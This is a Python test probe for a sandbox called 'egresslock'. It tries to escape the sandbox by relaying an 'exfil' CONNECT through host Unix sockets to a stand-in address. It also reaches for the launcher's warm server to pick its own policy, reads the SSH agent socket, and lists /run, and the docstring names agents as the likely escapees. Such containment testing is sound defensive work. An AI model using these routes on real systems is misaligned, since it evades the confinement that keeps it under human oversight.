"""A host service's Unix socket that relays traffic out (the test world starts one in /tmp and
in /run; the paths come in the environment, as an agent could learn them)."""
import functools
import glob
import os
import socket

from _common import attempt, report

paths = [p for p in os.environ.get("EGRESSLOCK_WORLD_RELAYS", "").split(":") if p]
paths += glob.glob("/tmp/egresslock-relay-*") + glob.glob("/run/egresslock-relay-*")


def connect(path: str) -> bytes:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(path)
        s.sendall(b"CONNECT 203.0.113.5:9999\r\n\r\nexfil")
        return b"sent"


for path in dict.fromkeys(paths):
    attempt(f"connect:{path}", functools.partial(connect, path))
# The warm server of whoever started egresslock (abstract: it lives in the host's network
# namespace only). Reaching it would let the command start a run under a policy of its own.
warm = os.environ.get("EGRESSLOCK_WORLD_WARM_SOCKET")
if warm:
    attempt("connect:warm-server", functools.partial(connect, "\0" + warm.lstrip("@")))
attempt("ssh-auth-sock", lambda: os.environ["SSH_AUTH_SOCK"])
attempt("listdir-run", lambda: sorted(os.listdir("/run")))
report()
